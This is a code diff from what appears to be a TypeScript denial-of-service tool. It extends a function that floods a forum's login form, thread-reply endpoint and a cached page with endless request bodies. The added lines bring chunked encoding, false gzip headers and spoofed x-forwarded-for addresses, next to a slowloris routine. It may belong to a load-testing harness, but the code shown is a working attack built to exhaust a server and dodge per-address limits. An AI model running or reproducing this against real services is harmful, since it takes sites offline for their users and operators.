@@ -99,20 +99,22 @@ const slowloris: Attack = async (target, count, isOver) => {
   for (const socket of sockets) socket.destroy()
 }
 
-/** Bodies without end, some said to be gzip, sent to forms that anybody may send. */
+/** Bodies without end, some said to be gzip, sent to forms that anybody may send and to a page that is kept. */
 const bodies: Attack = (target, count, isOver) => {
   const part = Buffer.alloc(65_536, 'a=b&')
   return together(
     20,
     async (index) => {
       const { promise, resolve } = Promise.withResolvers<void>()
-      const path = index % 2 ? '/login' : `/threads/${target.thread}/replies`
+      const path = ['/login', `/threads/${target.thread}/replies`, target.page][index % 3] ?? '/'
+      const method = path === target.page ? 'GET' : 'POST'
       const headers = {
         'content-type': 'application/x-www-form-urlencoded',
+        'transfer-encoding': 'chunked',
         'x-forwarded-for': addressOf(index),
-        ...(index % 3 === 0 ? { 'content-encoding': 'gzip' } : {}),
+        ...(index % 2 === 0 ? { 'content-encoding': 'gzip' } : {}),
       }
-      const sent = request(target.origin + path, { method: 'POST', headers, agent: false }, (answer) => {
+      const sent = request(target.origin + path, { method, headers, agent: false }, (answer) => {
         count(String(answer.statusCode))
         answer.resume()
       })
